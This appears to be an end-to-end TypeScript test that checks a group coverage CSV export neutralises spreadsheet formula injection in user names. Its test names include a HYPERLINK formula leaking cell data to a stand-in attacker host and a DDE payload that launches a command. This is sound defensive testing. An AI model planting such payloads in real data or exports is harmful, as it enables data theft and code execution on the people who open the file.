import { randomBytes } from "node:crypto";
import { createTestGroup } from "../../tests/support/groups";
import { createTestUser, type TestUser } from "../../tests/support/users";
import { e2eServers } from "../../tests/support/e2e-servers";
import { expect, seed, test } from "../support/fixtures";
import { patchUser, signInAt } from "./mfa-support";

/*
 * Observation 14 of issue 8: a coverage CSV opened in a spreadsheet must not run what a user
 * chose as their name. Cells starting with = + - @, a tab or a carriage return are neutralised
 * (Keystone strips leading tabs and carriage returns from names: the unit tests cover those).
 */

/** The fields of an RFC 4180 CSV, quoted fields with "" and line breaks included. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && (c === "," || c === "\n")) {
      row.push(field);
      field = "";
      if (c === "\n") {
        rows.push(row);
        row = [];
      }
    } else {
      field += c;
    }
  }
  return rows;
}

test("names that look like spreadsheet formulas are inert in the coverage CSV", async ({ page }) => {
  const tag = randomBytes(3).toString("hex");
  const names = [`=HYPERLINK("http://evil.example/?"&A1,"click ${tag}")`, `+1+cmd|' /C calc'!A0 ${tag}`, `-2+3 ${tag}`, `@SUM(A1) ${tag}`];
  const group = await createTestGroup();
  const users: TestUser[] = [];
  try {
    for (const name of names) {
      const user = await createTestUser();
      users.push(user);
      await patchUser(user.id, { name });
      await group.addMember(user.id);
    }
    await signInAt(page, e2eServers.main, seed.users.admin);
    const response = await page.request.get(`/identity/coverage/group/${group.id}`);
    expect(response.status()).toBe(200);
    const rows = parseCsv(await response.text());
    expect(rows[0]).toEqual(["user", "domain", "enabled", "mfa", "authenticators", "compliant"]);
    expect(rows).toHaveLength(names.length + 1);
    for (const cell of rows.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    // Each name is still there, behind a leading apostrophe.
    const shown = rows.slice(1).map((r) => r[0]).sort();
    expect(shown).toEqual(names.map((n) => `'${n}`).sort());
  } finally {
    await group.remove();
    for (const user of users) await user.remove();
  }
});
